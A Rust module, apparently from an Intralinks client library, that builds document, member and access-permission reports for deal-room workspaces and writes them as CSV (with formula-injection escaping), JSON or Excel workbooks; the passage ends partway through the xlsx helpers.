//! Reports a deal team asks for, as typed rows: documents, members, and
//! who can see what — per workspace, across workspaces, as CSV, JSON or xlsx.
//!
//! Each report is a [`Row`] type with the wire's field names (`workspaceId`,
//! `fileHashDownload`, ...) as its serde names and CSV header. [`Row::fetch`]
//! lists one workspace; [`across`] lists several, at most `concurrency` at a
//! time, entering each as the given [`FixedAnswers`] allow, and yields them
//! in the order given, so at most `concurrency` listings are held at once.
//! [`Writer`] writes rows as RFC 4180 CSV, as a JSON array, or as an Excel
//! workbook ([`Format::Xlsx`]). In CSV, a text
//! cell that begins with `=`, `+`, `-`, `@`, TAB or CR gets a leading `'`
//! (OWASP's advice against CSV injection), so a name chosen by whoever runs
//! the room cannot become a formula in a spreadsheet; JSON stays exact.
//! CSV and JSON use the wire's names; a workbook has one sheet whose header
//! row (bold, frozen, with a filter) holds each [`Column`]'s title for
//! people ("E-mail", "Folder path"), dates are Excel dates in UTC, ids and
//! sizes are numbers, and every text is a text cell — never a formula.
//!
//! Rows are sorted by workspace, then by path (segment by segment, so a
//! folder's contents follow it), then by the remaining key, so two reports
//! of the same room diff cleanly.
//!
//! # Access: how levels are resolved
//! A permission names a group, a folder and a level (`SEE` <
//! `SEE_AND_DOWNLOAD` < `SEE_DOWNLOAD_AND_PRINT`). It applies to that folder,
//! its subfolders and every document in them. A group's level on a path is
//! the **strongest** of all its permissions along the ancestor chain (a
//! weaker permission lower down does not narrow a stronger one above it). A
//! member's level is the strongest of their groups' levels. A group or member
//! with no permission along the chain gets no row. Roles are not
//! interpreted: a manager outside every group gets no rows.
//!
//! # Examples
//!
//! The documents of every workspace the user can see, as CSV, against the
//! simulator. Workspaces are entered as the given answers allow (none here:
//! enough for a room that asks nothing); one that asks for more gives its
//! error and the others go on.
//!
//! ```
//! # use intralinks_ext::{AppKeys, Grant, Intralinks, Secret};
//! # use intralinks_sim::{SimConfig, Simulator, demo};
//! # #[tokio::main(flavor = "current_thread")]
//! # async fn main() -> intralinks_ext::Result<()> {
//! # let sim = Simulator::start(SimConfig::default()).await.expect("simulator");
//! # let il = Intralinks::builder(sim.url())
//! #     .login(
//! #         AppKeys { client_id: demo::CLIENT_ID.into(), client_secret: Secret::new(demo::CLIENT_SECRET) },
//! #         Grant::Password {
//! #             email: demo::EMAIL.into(),
//! #             password: Secret::new(demo::PASSWORD),
//! #             end_other_sessions: false,
//! #         },
//! #     )
//! #     .await?;
//! use futures_util::StreamExt;
//! use intralinks_ext::FixedAnswers;
//! use intralinks_report::{self as report, DocumentRow, Format, Writer};
//!
//! let workspaces = report::visible_workspaces(&il).await?;
//! let answers = FixedAnswers::default();
//! let mut outcomes =
//!     std::pin::pin!(report::across::<DocumentRow>(&il, workspaces, Some(&answers), 4));
//! let mut csv = Writer::new::<DocumentRow>(Vec::new(), Format::Csv)?;
//! while let Some((ws, rows)) = outcomes.next().await {
//!     match rows {
//!         Ok(rows) => rows.iter().try_for_each(|row| csv.write(row))?,
//!         Err(e) => eprintln!("{}: {e}", ws.name),
//!     }
//! }
//! let csv = String::from_utf8(csv.finish()?).expect("UTF-8");
//! assert!(csv.starts_with("workspaceId,workspaceName,folderPath,name,id,"));
//! assert!(csv.contains("Q4 board pack.txt"));
//! # sim.shutdown().await;
//! # Ok(()) }
//! ```

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::future::Future;
use std::io::Write;

use chrono::{DateTime, SecondsFormat, Utc};
use futures_util::{Stream, StreamExt, TryStreamExt};
use serde::{Deserialize, Serialize, Serializer};

use intralinks_ext::api::types::{self, PermissionPermission};
use intralinks_ext::{Checked, Error, Result};
use intralinks_ext::{FixedAnswers, Intralinks};

/// A workspace a report covers: its id and name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WorkspaceRef {
    /// Workspace id.
    pub id: i64,
    /// Workspace name (empty when the service gave none).
    pub name: String,
}

impl From<i64> for WorkspaceRef {
    /// Only the id: the rows' `workspaceName` column stays empty. Use
    /// [`WorkspaceRef::lookup`] for the name.
    fn from(id: i64) -> Self {
        WorkspaceRef {
            id,
            name: String::new(),
        }
    }
}

impl WorkspaceRef {
    /// The workspace `id` with its name, as the service gives it (one
    /// request).
    pub async fn lookup(il: &Intralinks, id: i64) -> Result<Self> {
        let answer = il
            .api()
            .get_workspace()
            .workspace_id(id)
            .send()
            .checked()
            .await?;
        let name = answer
            .workspace
            .into_iter()
            .find(|w| w.id == id)
            .and_then(|w| w.name.or(w.workspace_name))
            .unwrap_or_default();
        Ok(WorkspaceRef { id, name })
    }
}

/// The separator between the names of a path.
pub const PATH_SEPARATOR: &str = "/";

/// One row of a report: its CSV header (the serde field names, in order)
/// and how to list one workspace's rows, sorted.
pub trait Row: Serialize + Sized {
    /// The header row: the serialized field names, in order.
    const HEADER: &'static [&'static str];
    /// The same columns, in the same order, for people: title and cell type.
    const COLUMNS: &'static [Column];
    /// The name of the sheet in a workbook.
    const SHEET: &'static str;
    /// This workspace's rows, sorted by path.
    fn fetch(il: &Intralinks, ws: &WorkspaceRef) -> impl Future<Output = Result<Vec<Self>>>;
}

/// What a column holds, which decides its cell type in a workbook.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum CellKind {
    /// Text, written as a text cell whatever it looks like.
    Text,
    /// A whole number (an id, a size, a version), written as a number.
    Number,
    /// A UTC date and time, written as an Excel date (a number with a date
    /// format), shown as `yyyy-mm-dd hh:mm:ss`.
    Date,
}

/// One column of a report, for a workbook.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub struct Column {
    /// The wire name: the serde name and CSV header of the field.
    pub name: &'static str,
    /// The column's title for people, e.g. "E-mail".
    pub title: &'static str,
    /// The cell type.
    pub kind: CellKind,
}

const fn text(name: &'static str, title: &'static str) -> Column {
    Column {
        name,
        title,
        kind: CellKind::Text,
    }
}

const fn number(name: &'static str, title: &'static str) -> Column {
    Column {
        name,
        title,
        kind: CellKind::Number,
    }
}

const fn when(name: &'static str, title: &'static str) -> Column {
    Column {
        name,
        title,
        kind: CellKind::Date,
    }
}

fn rfc3339<S: Serializer>(d: &Option<DateTime<Utc>>, s: S) -> std::result::Result<S::Ok, S::Error> {
    match d {
        Some(d) => s.serialize_str(&d.to_rfc3339_opts(SecondsFormat::Millis, true)),
        None => s.serialize_none(),
    }
}

fn date(m: Option<intralinks_ext::Millis>) -> Option<DateTime<Utc>> {
    m.and_then(|m| m.to_datetime())
}

/// One document: where it is and what it is.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[non_exhaustive]
pub struct DocumentRow {
    /// Workspace id.
    pub workspace_id: i64,
    /// Workspace name.
    pub workspace_name: String,
    /// The names of the folders from the root down to the document's folder,
    /// joined by [`PATH_SEPARATOR`].
    pub folder_path: String,
    /// Document name.
    pub name: String,
    /// Document id.
    pub id: i64,
    /// Size in bytes.
    pub file_size: Option<i64>,
    /// Created, UTC.
    #[serde(serialize_with = "rfc3339")]
    pub created_on: Option<DateTime<Utc>>,
    /// Last modified, UTC.
    #[serde(serialize_with = "rfc3339")]
    pub last_modified_on: Option<DateTime<Utc>>,
    /// Version number of the content.
    pub version_number: Option<i64>,
    /// Base64 SHA-1 of the content, as the service gives it.
    pub file_hash_download: Option<String>,
    /// The document's note.
    pub note: Option<String>,
}

/// One member of a workspace.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[non_exhaustive]
pub struct MemberRow {
    /// Workspace id.
    pub workspace_id: i64,
    /// Workspace name.
    pub workspace_name: String,
    /// Membership id (workspace user id).
    pub id: i64,
    /// Global user id.
    pub user_id: Option<i64>,
    /// E-mail.
    pub email_id: String,
    /// First name.
    pub first_name: String,
    /// Last name.
    pub last_name: String,
    /// Organisation.
    pub organization: String,
    /// Role in the workspace (roleType).
    pub role_type: String,
    /// Names of the member's groups, sorted, joined by `"; "`.
    pub groups: String,
    /// First access, UTC.
    #[serde(serialize_with = "rfc3339")]
    pub first_accessed: Option<DateTime<Utc>>,
    /// Last access, UTC.
    #[serde(serialize_with = "rfc3339")]
    pub last_accessed_on: Option<DateTime<Utc>>,
    /// Membership status, as the service gives it (e.g. `ACTIVE`).
    pub status: String,
    /// The workspace's phase, as the service gives it (e.g. `OPEN`).
    pub phase: String,
}

/// Whether an access row is about a folder or a document.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
#[non_exhaustive]
pub enum ItemKind {
    /// A folder.
    Folder,
    /// A document.
    Document,
}

/// One group's effective level on one folder or document.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[non_exhaustive]
pub struct AccessRow {
    /// Workspace id.
    pub workspace_id: i64,
    /// Workspace name.
    pub workspace_name: String,
    /// Folder names from the root, and the document's name for a document,
    /// joined by [`PATH_SEPARATOR`].
    pub path: String,
    /// Folder or document.
    #[serde(rename = "type")]
    pub kind: ItemKind,
    /// The folder's or document's id.
    pub id: i64,
    /// Group id.
    pub group_id: i64,
    /// Group name.
    pub group_name: String,
    /// The strongest level that applies (see the module docs).
    pub permission: PermissionPermission,
}

/// One member's effective level on one folder or document.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
#[non_exhaustive]
pub struct UserAccessRow {
    /// Workspace id.
    pub workspace_id: i64,
    /// Workspace name.
    pub workspace_name: String,
    /// As in [`AccessRow::path`].
    pub path: String,
    /// Folder or document.
    #[serde(rename = "type")]
    pub kind: ItemKind,
    /// The folder's or document's id.
    pub id: i64,
    /// Membership id (workspace user id).
    pub workspace_user_id: i64,
    /// E-mail.
    pub email_id: String,
    /// The member's first name.
    pub first_name: String,
    /// The member's last name.
    pub last_name: String,
    /// The strongest level any of the member's groups has here.
    pub permission: PermissionPermission,
    /// The groups giving that level, sorted, joined by `"; "`.
    pub groups: String,
}

/// Folder id → each group's strongest level on it, along its ancestors.
type Inherited = HashMap<i64, BTreeMap<i64, PermissionPermission>>;

/// Each folder's levels, parents before children: one pass, however deep.
fn inherited(tree: &Tree, direct: &HashMap<i64, Vec<(i64, PermissionPermission)>>) -> Inherited {
    let forest = tree.forest();
    let mut out: Inherited = HashMap::with_capacity(forest.top_down().len());
    for &id in forest.top_down() {
        let mut levels = forest
            .parent(id)
            .and_then(|p| out.get(&p))
            .cloned()
            .unwrap_or_default();
        for (group, level) in direct.get(&id).into_iter().flatten() {
            let at = levels.entry(*group).or_insert(*level);
            *at = (*at).max(*level);
        }
        out.insert(id, levels);
    }
    out
}

fn join(segments: &[String]) -> String {
    segments.join(PATH_SEPARATOR)
}

use intralinks_ext::listing::{FolderPaths as Tree, document_folder as doc_folder};

async fn folders(il: &Intralinks, ws: i64) -> Result<Vec<types::Folder>> {
    il.folders(ws).await
}

async fn documents(il: &Intralinks, ws: i64) -> Result<Vec<types::Document>> {
    il.documents(ws, None).await
}

async fn groups(il: &Intralinks, ws: i64) -> Result<types::GroupList> {
    il.api()
        .list_groups()
        .workspace_id(ws)
        .include_workspace_group_members(true)
        .send()
        .checked()
        .await
}

async fn members(il: &Intralinks, ws: i64) -> Result<Vec<types::User>> {
    Ok(il
        .api()
        .list_workspace_members()
        .workspace_id(ws)
        .send()
        .checked()
        .await?
        .users)
}

async fn permissions(il: &Intralinks, ws: i64) -> Result<Vec<types::Permission>> {
    Ok(il
        .api()
        .list_permissions()
        .workspace_id(ws)
        .send()
        .checked()
        .await?
        .permissions)
}

fn group_name(g: &types::Group) -> String {
    g.group_name.clone().or(g.name.clone()).unwrap_or_default()
}

/// A path that sorts segment by segment, so that a folder's contents follow
/// it (`A/B` before `A B`). One string per row, not one per segment.
#[derive(PartialEq, Eq)]
struct PathKey(String);

impl Ord for PathKey {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.0
            .split(PATH_SEPARATOR)
            .cmp(other.0.split(PATH_SEPARATOR))
    }
}

impl PartialOrd for PathKey {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

/// Sorts rows by their keys and drops the keys.
fn sorted<K: Ord, R>(mut keyed: Vec<(K, R)>) -> Vec<R> {
    keyed.sort_by(|a, b| a.0.cmp(&b.0));
    keyed.into_iter().map(|(_, r)| r).collect()
}

/// Builds document rows from one workspace's listings.
pub fn document_rows(
    ws: &WorkspaceRef,
    folders: &[types::Folder],
    documents: &[types::Document],
) -> Vec<DocumentRow> {
    let tree = Tree::new(folders);
    let keyed = documents
        .iter()
        .map(|d| {
            let segments = doc_folder(d).map(|f| tree.segments(f)).unwrap_or_default();
            let name = d.name.clone().unwrap_or_default();
            let row = DocumentRow {
                workspace_id: ws.id,
                workspace_name: ws.name.clone(),
                folder_path: join(&segments),
                name: name.clone(),
                id: d.id,
                file_size: d.file_size,
                created_on: date(d.created_on),
                last_modified_on: date(d.last_modified_on),
                version_number: d.version_number,
                file_hash_download: d.file_hash_download.clone(),
                note: d.note.clone(),
            };
            ((PathKey(row.folder_path.clone()), name, d.id), row)
        })
        .collect();
    sorted(keyed)
}

/// Builds member rows from one workspace's listings (`phase` is the workspace's).
pub fn member_rows(
    ws: &WorkspaceRef,
    phase: &str,
    users: &[types::User],
    groups: &types::GroupList,
) -> Vec<MemberRow> {
    let names: HashMap<i64, String> = groups
        .groups
        .iter()
        .map(|g| (g.id, group_name(g)))
        .collect();
    let mut of_member: HashMap<i64, BTreeSet<String>> = HashMap::new();
    for link in &groups.workspace_group_members {
        if let (Some(g), Some(m)) = (link.workspace_group_id, link.workspace_user_id)
            && let Some(name) = names.get(&g)
        {
            of_member.entry(m).or_default().insert(name.clone());
        }
    }
    let keyed = users
        .iter()
        .map(|u| {
            let email = u.email_id.clone().unwrap_or_default();
            let row = MemberRow {
                workspace_id: ws.id,
                workspace_name: ws.name.clone(),
                id: u.id,
                user_id: u.user_id,
                email_id: email.clone(),
                first_name: u.first_name.clone().unwrap_or_default(),
                last_name: u.last_name.clone().unwrap_or_default(),
                organization: u.organization.clone().unwrap_or_default(),
                role_type: u.role_type.clone().unwrap_or_default(),
                groups: of_member
                    .get(&u.id)
                    .map(|s| s.iter().cloned().collect::<Vec<_>>().join("; "))
                    .unwrap_or_default(),
                first_accessed: date(u.first_accessed),
                last_accessed_on: date(u.last_accessed_on),
                status: u.status.clone().unwrap_or_default(),
                phase: phase.to_string(),
            };
            ((email.to_lowercase(), u.id), row)
        })
        .collect();
    sorted(keyed)
}

/// One folder or document with its path and the folder whose chain applies.
struct Item {
    path: String,
    kind: ItemKind,
    id: i64,
    folder: Option<i64>,
}

fn items(tree: &Tree, folders: &[types::Folder], documents: &[types::Document]) -> Vec<Item> {
    let mut out: Vec<Item> = folders
        .iter()
        .map(|f| Item {
            path: join(&tree.segments(f.id)),
            kind: ItemKind::Folder,
            id: f.id,
            folder: Some(f.id),
        })
        .collect();
    out.extend(documents.iter().map(|d| {
        let folder = doc_folder(d);
        let mut segments = folder.map(|f| tree.segments(f)).unwrap_or_default();
        segments.push(d.name.clone().unwrap_or_default());
        Item {
            path: join(&segments),
            kind: ItemKind::Document,
            id: d.id,
            folder,
        }
    }));
    out
}

/// Each group's strongest level on `folder`, along its ancestor chain.
fn levels_on(inherited: &Inherited, folder: Option<i64>) -> BTreeMap<i64, PermissionPermission> {
    folder
        .and_then(|f| inherited.get(&f))
        .cloned()
        .unwrap_or_default()
}

/// Folder id → the (group, level) permissions set directly on it.
fn direct(perms: &[types::Permission]) -> HashMap<i64, Vec<(i64, PermissionPermission)>> {
    let mut out: HashMap<i64, Vec<(i64, PermissionPermission)>> = HashMap::new();
    for p in perms {
        if let (Some(f), Some(g), Some(l)) = (p.folder_id, p.group_id, p.permission) {
            out.entry(f).or_default().push((g, l));
        }
    }
    out
}

/// Builds per-group access rows from one workspace's listings.
pub fn access_rows(
    ws: &WorkspaceRef,
    folders: &[types::Folder],
    documents: &[types::Document],
    groups: &[types::Group],
    permissions: &[types::Permission],
) -> Vec<AccessRow> {
    access_rows_with_documents(ws, folders, documents, groups, permissions, &HashMap::new())
}

/// As [`access_rows`], but each document in `per_document` gets the levels
/// the service lists for it (`GET /workspaces/{id}/documents/{id}/permissions`:
/// per group, the strongest one listed) instead of those its folders give.
/// Documents missing from `per_document` keep their folders' levels.
pub fn access_rows_with_documents(
    ws: &WorkspaceRef,
    folders: &[types::Folder],
    documents: &[types::Document],
    groups: &[types::Group],
    permissions: &[types::Permission],
    per_document: &HashMap<i64, Vec<types::Permission>>,
) -> Vec<AccessRow> {
    let tree = Tree::new(folders);
    let inherited = inherited(&tree, &direct(permissions));
    let names: HashMap<i64, String> = groups.iter().map(|g| (g.id, group_name(g))).collect();
    let mut keyed = Vec::new();
    for item in items(&tree, folders, documents) {
        let levels = match per_document.get(&item.id) {
            Some(listed) if item.kind == ItemKind::Document => {
                let mut levels: BTreeMap<i64, PermissionPermission> = BTreeMap::new();
                for p in listed {
                    if let (Some(g), Some(l)) = (p.group_id, p.permission) {
                        let at = levels.entry(g).or_insert(l);
                        *at = (*at).max(l);
                    }
                }
                levels
            }
            _ => levels_on(&inherited, item.folder),
        };
        for (group, level) in levels {
            let name = names.get(&group).cloned().unwrap_or_default();
            let row = AccessRow {
                workspace_id: ws.id,
                workspace_name: ws.name.clone(),
                path: item.path.clone(),
                kind: item.kind,
                id: item.id,
                group_id: group,
                group_name: name.clone(),
                permission: level,
            };
            keyed.push((
                (PathKey(item.path.clone()), item.kind, item.id, name, group),
                row,
            ));
        }
    }
    sorted(keyed)
}

/// Each document's permissions as the service lists them, eight documents
/// at a time; a document the service has none for (it answers 404) is left
/// out, so that its folders' levels apply.
async fn document_permissions(
    il: &Intralinks,
    ws: i64,
    documents: &[types::Document],
) -> Result<HashMap<i64, Vec<types::Permission>>> {
    let answers: Vec<(i64, Result<types::PermissionList>)> =
        futures_util::stream::iter(documents.iter().map(|d| d.id))
            .map(|id| async move {
                let r = il
                    .api()
                    .list_document_permissions()
                    .workspace_id(ws)
                    .document_id(id)
                    .send()
                    .checked()
                    .await;
                (id, r)
            })
            .buffer_unordered(8)
            .collect()
            .await;
    let mut out = HashMap::new();
    for (id, r) in answers {
        match r {
            Ok(list) => {
                out.insert(id, list.permissions);
            }
            Err(
                Error::NotFound { .. }
                | Error::UnexpectedBody {
                    status: Some(404), ..
                },
            ) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(out)
}

/// Builds per-member access rows from one workspace's listings: each
/// member's strongest level through their groups.
pub fn user_access_rows(
    ws: &WorkspaceRef,
    folders: &[types::Folder],
    documents: &[types::Document],
    groups: &types::GroupList,
    users: &[types::User],
    permissions: &[types::Permission],
) -> Vec<UserAccessRow> {
    let tree = Tree::new(folders);
    let inherited = inherited(&tree, &direct(permissions));
    let names: HashMap<i64, String> = groups
        .groups
        .iter()
        .map(|g| (g.id, group_name(g)))
        .collect();
    let mut members_of: HashMap<i64, BTreeSet<i64>> = HashMap::new();
    for link in &groups.workspace_group_members {
        if let (Some(g), Some(m)) = (link.workspace_group_id, link.workspace_user_id) {
            members_of.entry(g).or_default().insert(m);
        }
    }
    // member → (e-mail, first name, last name)
    let people: HashMap<i64, (String, String, String)> = users
        .iter()
        .map(|u| {
            let name = |n: &Option<String>| n.clone().unwrap_or_default();
            (
                u.id,
                (name(&u.email_id), name(&u.first_name), name(&u.last_name)),
            )
        })
        .collect();
    let mut keyed = Vec::new();
    for item in items(&tree, folders, documents) {
        // member → (level, groups giving it)
        let mut best: BTreeMap<i64, (PermissionPermission, BTreeSet<String>)> = BTreeMap::new();
        for (group, level) in levels_on(&inherited, item.folder) {
            let name = names.get(&group).cloned().unwrap_or_default();
            for m in members_of.get(&group).into_iter().flatten() {
                let at = best.entry(*m).or_insert((level, BTreeSet::new()));
                if level > at.0 {
                    *at = (level, BTreeSet::new());
                }
                if level == at.0 {
                    at.1.insert(name.clone());
                }
            }
        }
        for (member, (level, via)) in best {
            let (email, first_name, last_name) = people.get(&member).cloned().unwrap_or_default();
            let row = UserAccessRow {
                workspace_id: ws.id,
                workspace_name: ws.name.clone(),
                path: item.path.clone(),
                kind: item.kind,
                id: item.id,
                workspace_user_id: member,
                email_id: email.clone(),
                first_name,
                last_name,
                permission: level,
                groups: via.into_iter().collect::<Vec<_>>().join("; "),
            };
            keyed.push((
                (
                    PathKey(item.path.clone()),
                    item.kind,
                    item.id,
                    email.to_lowercase(),
                    member,
                ),
                row,
            ));
        }
    }
    sorted(keyed)
}

impl Row for DocumentRow {
    const HEADER: &'static [&'static str] = &[
        "workspaceId",
        "workspaceName",
        "folderPath",
        "name",
        "id",
        "fileSize",
        "createdOn",
        "lastModifiedOn",
        "versionNumber",
        "fileHashDownload",
        "note",
    ];
    const COLUMNS: &'static [Column] = &[
        number("workspaceId", "Workspace ID"),
        text("workspaceName", "Workspace"),
        text("folderPath", "Folder path"),
        text("name", "Name"),
        number("id", "Document ID"),
        number("fileSize", "Size (bytes)"),
        when("createdOn", "Created (UTC)"),
        when("lastModifiedOn", "Last modified (UTC)"),
        number("versionNumber", "Version"),
        text("fileHashDownload", "SHA-1 (base64)"),
        text("note", "Note"),
    ];
    const SHEET: &'static str = "Documents";
    async fn fetch(il: &Intralinks, ws: &WorkspaceRef) -> Result<Vec<Self>> {
        let (f, d) = futures_util::try_join!(folders(il, ws.id), documents(il, ws.id))?;
        Ok(document_rows(ws, &f, &d))
    }
}

impl Row for MemberRow {
    const HEADER: &'static [&'static str] = &[
        "workspaceId",
        "workspaceName",
        "id",
        "userId",
        "emailId",
        "firstName",
        "lastName",
        "organization",
        "roleType",
        "groups",
        "firstAccessed",
        "lastAccessedOn",
        "status",
        "phase",
    ];
    const COLUMNS: &'static [Column] = &[
        number("workspaceId", "Workspace ID"),
        text("workspaceName", "Workspace"),
        number("id", "Member ID"),
        number("userId", "User ID"),
        text("emailId", "E-mail"),
        text("firstName", "First name"),
        text("lastName", "Last name"),
        text("organization", "Organization"),
        text("roleType", "Role"),
        text("groups", "Groups"),
        when("firstAccessed", "First access (UTC)"),
        when("lastAccessedOn", "Last access (UTC)"),
        text("status", "Status"),
        text("phase", "Workspace phase"),
    ];
    const SHEET: &'static str = "Members";
    async fn fetch(il: &Intralinks, ws: &WorkspaceRef) -> Result<Vec<Self>> {
        let workspace = async {
            il.api()
                .get_workspace()
                .workspace_id(ws.id)
                .send()
                .checked()
                .await
        };
        let (u, g, w) = futures_util::try_join!(members(il, ws.id), groups(il, ws.id), workspace)?;
        let phase = w
            .workspace
            .into_iter()
            .find_map(|w| w.phase)
            .unwrap_or_default();
        Ok(member_rows(ws, &phase, &u, &g))
    }
}

impl Row for AccessRow {
    const HEADER: &'static [&'static str] = &[
        "workspaceId",
        "workspaceName",
        "path",
        "type",
        "id",
        "groupId",
        "groupName",
        "permission",
    ];
    const COLUMNS: &'static [Column] = &[
        number("workspaceId", "Workspace ID"),
        text("workspaceName", "Workspace"),
        text("path", "Path"),
        text("type", "Type"),
        number("id", "ID"),
        number("groupId", "Group ID"),
        text("groupName", "Group"),
        text("permission", "Permission"),
    ];
    const SHEET: &'static str = "Access by group";
    async fn fetch(il: &Intralinks, ws: &WorkspaceRef) -> Result<Vec<Self>> {
        let (f, d, g, p) = futures_util::try_join!(
            folders(il, ws.id),
            documents(il, ws.id),
            groups(il, ws.id),
            permissions(il, ws.id)
        )?;
        let per_document = document_permissions(il, ws.id, &d).await?;
        Ok(access_rows_with_documents(
            ws,
            &f,
            &d,
            &g.groups,
            &p,
            &per_document,
        ))
    }
}

impl Row for UserAccessRow {
    const HEADER: &'static [&'static str] = &[
        "workspaceId",
        "workspaceName",
        "path",
        "type",
        "id",
        "workspaceUserId",
        "emailId",
        "firstName",
        "lastName",
        "permission",
        "groups",
    ];
    const COLUMNS: &'static [Column] = &[
        number("workspaceId", "Workspace ID"),
        text("workspaceName", "Workspace"),
        text("path", "Path"),
        text("type", "Type"),
        number("id", "ID"),
        number("workspaceUserId", "Member ID"),
        text("emailId", "E-mail"),
        text("firstName", "First name"),
        text("lastName", "Last name"),
        text("permission", "Permission"),
        text("groups", "Through groups"),
    ];
    const SHEET: &'static str = "Access by member";
    async fn fetch(il: &Intralinks, ws: &WorkspaceRef) -> Result<Vec<Self>> {
        let (f, d, g, u, p) = futures_util::try_join!(
            folders(il, ws.id),
            documents(il, ws.id),
            groups(il, ws.id),
            members(il, ws.id),
            permissions(il, ws.id)
        )?;
        Ok(user_access_rows(ws, &f, &d, &g, &u, &p))
    }
}

/// Every workspace the user can see, sorted by id.
pub async fn visible_workspaces(il: &Intralinks) -> Result<Vec<WorkspaceRef>> {
    let mut list: Vec<WorkspaceRef> = il
        .list_all_workspaces()
        .map_ok(|w| WorkspaceRef {
            id: w.id,
            name: w.name.or(w.workspace_name).unwrap_or_default(),
        })
        .try_collect()
        .await?;
    list.sort_by_key(|w| w.id);
    list.dedup_by_key(|w| w.id);
    Ok(list)
}

/// One workspace's rows, or why there are none.
pub type Outcome<R> = (WorkspaceRef, Result<Vec<R>>);

/// The rows of each workspace, in the order given, fetched at most
/// `concurrency` at a time (at least one). With `answers`, a workspace that
/// must be entered first is entered as they allow; with `None`, none is
/// entered — it gives [`Error::EntryRequired`] — so that no one-time password
/// is mailed and no attempt spent in rooms nobody asked to enter. A
/// workspace that fails gives its error and the others go on.
pub fn across<'a, R: Row + 'a>(
    il: &'a Intralinks,
    workspaces: Vec<WorkspaceRef>,
    answers: Option<&'a FixedAnswers>,
    concurrency: usize,
) -> impl Stream<Item = Outcome<R>> + 'a {
    futures_util::stream::iter(workspaces)
        .map(move |ws| async move {
            let rows = match answers {
                Some(answers) => il.in_workspace(ws.id, answers, || R::fetch(il, &ws)).await,
                None => R::fetch(il, &ws).await,
            };
            (ws, rows)
        })
        .buffered(concurrency.max(1))
}

/// An output format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
#[non_exhaustive]
pub enum Format {
    /// RFC 4180 CSV, UTF-8, with a header row.
    #[default]
    Csv,
    /// One JSON array of records, one record a line.
    Json,
    /// An Excel workbook (Office Open XML, `.xlsx`) of one sheet: see the
    /// module docs. A workbook is a zip archive written whole, so the rows
    /// are kept in memory and the file is written by [`Writer::finish`].
    Xlsx,
}

enum Sink<W: Write> {
    Csv(Box<csv::Writer<W>>),
    Json { out: W, first: bool },
    Xlsx(Box<Sheet<W>>),
}

/// Writes rows as they come, in CSV or JSON (or into a workbook, written at
/// the end); call [`Writer::finish`] at the end.
pub struct Writer<W: Write> {
    sink: Sink<W>,
}

fn io(e: std::io::Error) -> Error {
    Error::Io {
        action: "cannot write the report to",
        path: "the output".into(),
        source: e,
    }
}

fn csv_error(e: csv::Error) -> Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => io(e),
        other => Error::InvalidInput(format!("cannot write a CSV row: {other:?}")),
    }
}

/// `row` as CSV fields, every text cell that a spreadsheet would read as a
/// formula neutralised ([`intralinks_ext::text::csv_cell`]). A cell that is a plain
/// number (an id, a size) is a number, not text, and is left as it is.
fn safe_record<R: Row>(row: &R) -> Result<csv::StringRecord> {
    let mut scratch = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    scratch.serialize(row).map_err(csv_error)?;
    let line = scratch.into_inner().map_err(|e| io(e.into_error()))?;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_slice());
    let mut fields = csv::StringRecord::new();
    reader.read_record(&mut fields).map_err(csv_error)?;
    Ok(fields
        .iter()
        .map(|cell| {
            if cell.parse::<i64>().is_ok() || cell.parse::<f64>().is_ok_and(f64::is_finite) {
                std::borrow::Cow::Borrowed(cell)
            } else {
                intralinks_ext::text::csv_cell(cell)
            }
        })
        .collect())
}

/// The most rows a worksheet holds, header included (Excel's limit).
pub const XLSX_MAX_ROWS: u32 = 1_048_576;

/// The most characters a cell holds (Excel's limit); a longer text is cut
/// to this, its last character `…`.
pub const XLSX_MAX_CELL_CHARS: usize = 32_767;

/// Width (in characters) a column may grow to from its content.
const XLSX_MAX_WIDTH: usize = 60;

/// Characters of a date as shown (`yyyy-mm-dd hh:mm:ss`).
const DATE_WIDTH: usize = 19;

/// Days from Excel's epoch (1899-12-30, in the 1900 system) to 1970-01-01.
const EXCEL_UNIX_EPOCH_DAYS: f64 = 25_569.0;

/// A workbook being filled; written out by [`Writer::finish`].
struct Sheet<W: Write> {
    out: W,
    book: rust_xlsxwriter::Workbook,
    columns: &'static [Column],
    /// The next row to fill (0 is the header).
    next: u32,
    /// The widest content of each column so far, in characters.
    widths: Vec<usize>,
    date: rust_xlsxwriter::Format,
}

fn xlsx_error(e: rust_xlsxwriter::XlsxError) -> Error {
    match e {
        rust_xlsxwriter::XlsxError::IoError(e) => io(e),
        other => Error::InvalidInput(format!("cannot write the workbook: {other}")),
    }
}

/// An RFC 3339 date as an Excel date: days since 1899-12-30, UTC. `None`
/// for a date Excel cannot show (before 1900-03-01, where its calendar is
/// off by the day it thinks 1900-02-29 was).
fn excel_date(text: &str) -> Option<f64> {
    let d = DateTime::parse_from_rfc3339(text).ok()?;
    let serial = EXCEL_UNIX_EPOCH_DAYS + d.timestamp_millis() as f64 / 86_400_000.0;
    (61.0..2_958_466.0).contains(&serial).then_some(serial)
}

/// `text` cut to what a cell holds.
fn cell_text(text: &str) -> std::borrow::Cow<'_, str> {
    match text.char_indices().nth(XLSX_MAX_CELL_CHARS) {
        Some(_) => {
            let keep: String = text.chars().take(XLSX_MAX_CELL_CHARS - 1).collect();
            std::borrow::Cow::Owned(keep + "…")
        }
        None => std::borrow::Cow::Borrowed(text),
    }
}

